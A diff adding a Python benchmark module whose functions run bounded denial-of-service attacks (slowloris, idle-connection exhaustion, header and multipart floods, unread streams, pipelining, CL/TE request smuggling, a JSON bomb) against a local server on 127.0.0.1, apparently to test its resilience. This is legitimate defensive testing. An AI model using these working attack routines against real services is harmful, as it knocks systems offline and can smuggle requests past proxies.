@@ -1,0 +1,177 @@
+"""The attackers of `bench.hostile`: each bounded in time, against 127.0.0.1 only.
+
+They share the machine with the server, so each runs at the lowest priority and at a stated pace.
+"""
+
+import contextlib
+import json
+import os
+import socket
+import sys
+import time
+from collections.abc import Callable
+
+from service.open_files import raise_open_file_limit
+
+HEAD = "Host: 127.0.0.1:{port}\r\n"
+
+
+class Attacker:
+    """What an attack needs: a port, and when it ends."""
+
+    def __init__(self, port: int, seconds: float) -> None:
+        self.port, self._until_s = port, time.monotonic() + seconds
+        self.head = HEAD.format(port=port).encode()
+
+    def open(self) -> socket.socket | None:
+        """Connect without waiting; None where the system refuses."""
+        try:
+            connection = socket.create_connection(("127.0.0.1", self.port), timeout=2)
+        except OSError:
+            return None
+        connection.setblocking(False)
+        return connection
+
+    def goes_on(self, pause_s: float) -> bool:
+        """Wait; return whether there is time left."""
+        time.sleep(pause_s)
+        return time.monotonic() < self._until_s
+
+
+def send(connection: socket.socket, data: bytes) -> bool:
+    """Send what fits; return whether the connection is still there."""
+    try:
+        connection.send(data)
+    except BlockingIOError:
+        return True
+    except OSError:
+        return False
+    return True
+
+
+def drain(connection: socket.socket) -> bool:
+    """Read what is there; return whether the connection is still there."""
+    try:
+        return bool(connection.recv(1 << 20))
+    except BlockingIOError:
+        return True
+    except OSError:
+        return False
+
+
+def slowloris(attacker: Attacker) -> None:
+    """500 heads, a byte a second each; what is closed is opened again."""
+    held: list[socket.socket] = []
+    while attacker.goes_on(0.1):
+        held = [one for one in held[50:] + held[:50] if drain(one)]
+        for one in held[:50]:
+            send(one, b"a")
+        for _ in range(min(50, 500 - len(held))):
+            if (new := attacker.open()) is not None:
+                send(new, b"GET / HTTP/1.1\r\n" + attacker.head + b"X-A: ")
+                held.append(new)
+
+
+def idle(attacker: Attacker) -> None:
+    """10,000 connections that send nothing, 100 more every 0.1 s."""
+    held: list[socket.socket] = []
+    while attacker.goes_on(0.1):
+        new = [attacker.open() for _ in range(min(100, 10_000 - len(held)))]
+        held += [one for one in new if one is not None]
+
+
+def _repeat(attacker: Attacker, data: bytes, pause_s: float) -> None:
+    """Send something on a new connection each time, and read a little of the reply."""
+    while attacker.goes_on(pause_s):
+        if (new := attacker.open()) is not None:
+            with new:
+                new.settimeout(1)
+                with contextlib.suppress(OSError):
+                    new.sendall(data)
+                    new.recv(4_096)
+
+
+def header_flood(attacker: Attacker) -> None:
+    """20 heads of 1 MB a second."""
+    fields = b"".join(b"X-%d: a\r\n" % i for i in range(80_000))
+    _repeat(attacker, b"GET / HTTP/1.1\r\n" + attacker.head + fields, 0.05)
+
+
+def never_read(attacker: Attacker) -> None:
+    """200 connections that ask for a large reply twenty times, and 4 streams, all unread."""
+    held: list[socket.socket] = []
+    get = b"GET /openapi.json HTTP/1.1\r\n" + attacker.head + b"\r\n"
+    body = json.dumps({"inputs": "The ", "parameters": {"max_new_tokens": 1_000_000}}).encode()
+    post = b"POST /generate_stream HTTP/1.1\r\n" + attacker.head
+    post += b"Content-Type: application/json\r\nContent-Length: %d\r\n\r\n" % len(body)
+    while attacker.goes_on(0.1):
+        if len(held) < 204 and (new := attacker.open()) is not None:
+            send(new, get * 20 if len(held) >= 4 else post + body)
+            held.append(new)
+
+
+def multipart_bomb(attacker: Attacker) -> None:
+    """5 uploads of 100,000 parts a second."""
+    part = b'--b\r\nContent-Disposition: form-data; name="a"\r\n\r\n\r\n'
+    body = part * 100_000 + b"--b--\r\n"
+    head = b"POST /admin/models/upload HTTP/1.1\r\n" + attacker.head
+    head += b"Content-Type: multipart/form-data; boundary=b\r\n"
+    _repeat(attacker, head + b"Content-Length: %d\r\n\r\n" % len(body) + body, 0.2)
+
+
+def pipelining(attacker: Attacker) -> None:
+    """10,000 requests in one piece on one connection, read back; a new one every second."""
+    get = b"GET /x HTTP/1.1\r\n" + attacker.head + b"\r\n"
+    while True:
+        new, data = attacker.open(), get * 10_000
+        for _ in range(10):
+            if new is not None and data:
+                with contextlib.suppress(OSError):
+                    data = data[new.send(data) :]
+                drain(new)
+            if not attacker.goes_on(0.1):
+                return
+        if new is not None:
+            new.close()
+
+
+def smuggling(attacker: Attacker) -> None:
+    """100 requests a second with both framings, and one hidden behind it."""
+    head = b"POST / HTTP/1.1\r\n" + attacker.head + b"Content-Length: 5\r\n"
+    inner = b"GET /smuggled HTTP/1.1\r\n" + attacker.head + b"\r\n"
+    _repeat(attacker, head + b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + inner, 0.01)
+
+
+def json_bomb(attacker: Attacker) -> None:
+    """5 bodies of four million numbers a second."""
+    body = b'{"inputs": [' + b"1," * 3_900_000 + b"1]}"
+    head = b"POST /generate HTTP/1.1\r\n" + attacker.head
+    head += b"Content-Type: application/json\r\nContent-Length: %d\r\n\r\n" % len(body)
+    _repeat(attacker, head + body, 0.2)
+
+
+ATTACKS: dict[str, Callable[[Attacker], None]] = {
+    function.__name__: function
+    for function in (
+        slowloris,
+        idle,
+        header_flood,
+        never_read,
+        multipart_bomb,
+        pipelining,
+        smuggling,
+        json_bomb,
+    )
+}
+
+
+def main() -> None:
+    """`python -m bench.attacks idle 8000 4` attacks port 8000 of this machine for 4 seconds."""
+    name, port, seconds = sys.argv[1:]
+    os.nice(19)
+    raise_open_file_limit()
+    ATTACKS[name](Attacker(int(port), float(seconds)))
+
+
+if __name__ == "__main__":
+    main()
